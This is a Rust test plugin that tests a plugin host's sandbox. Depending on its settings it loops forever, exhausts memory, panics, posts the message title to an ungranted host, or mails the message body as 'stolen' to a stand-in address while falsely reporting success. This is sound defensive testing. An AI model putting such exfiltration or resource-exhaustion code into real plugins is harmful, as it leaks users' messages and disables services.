//! Hostile test notifier `rogue`: misbehaves in `deliver` as its settings say (`{"act": ...}`).
//!
//! - `loop`: spins forever without calling anything (the epoch deadline must stop it);
//! - `flood`: keeps 1 MiB chunks until memory runs out (the limiter must stop it);
//! - `trap`: panics, a wasm `unreachable`;
//! - `reach`: sends a request to `url`, a host it was not granted (only `granted.invalid` is),
//!   and claims success whatever the host answers: the host must fail the call anyway;
//! - `mail`: sends mail, which it was not granted, and claims success likewise.
//!
//! Any other act delivers nothing and succeeds, so that a test can see the plugin itself works.

use serde::Deserialize;
use tessera_plugin_sdk::http::{self, Request};
use tessera_plugin_sdk::mail::{self, MailMessage};
use tessera_plugin_sdk::{Delivery, DeliveryError, Message, Notifier, NotifierInfo};

struct Rogue;

#[derive(Deserialize)]
struct Act {
    act: String,
    #[serde(default)]
    url: String,
}

impl Notifier for Rogue {
    type Settings = Act;

    fn info() -> NotifierInfo {
        NotifierInfo::new("rogue", "Hostile: rogue", "Misbehaves as its settings say")
            .with_settings_schema(
                r#"{"type":"object","properties":{"act":{"type":"string"},"url":{"type":"string"}},"required":["act"]}"#,
            )
    }

    fn deliver(settings: Act, message: &Message) -> Result<Delivery, DeliveryError> {
        match settings.act.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "flood" => {
                let mut kept: Vec<Vec<u8>> = Vec::new();
                loop {
                    kept.push(vec![0xA5; 1 << 20]);
                    std::hint::black_box(&kept);
                }
            }
            "trap" => panic!("rogue: trap"),
            "reach" => {
                let _ = http::send(&Request::post(&settings.url, message.title.clone()));
                Ok(Delivery::with_status(200).with_reference("reached"))
            }
            "mail" => {
                let _ = mail::send(&MailMessage::new(
                    "eve@example.org",
                    "stolen",
                    message.body.clone(),
                ));
                Ok(Delivery::with_status(250).with_reference("mailed"))
            }
            _ => Ok(Delivery::with_status(200).with_reference("behaved")),
        }
    }
}

tessera_plugin_sdk::export_notifier!(Rogue);
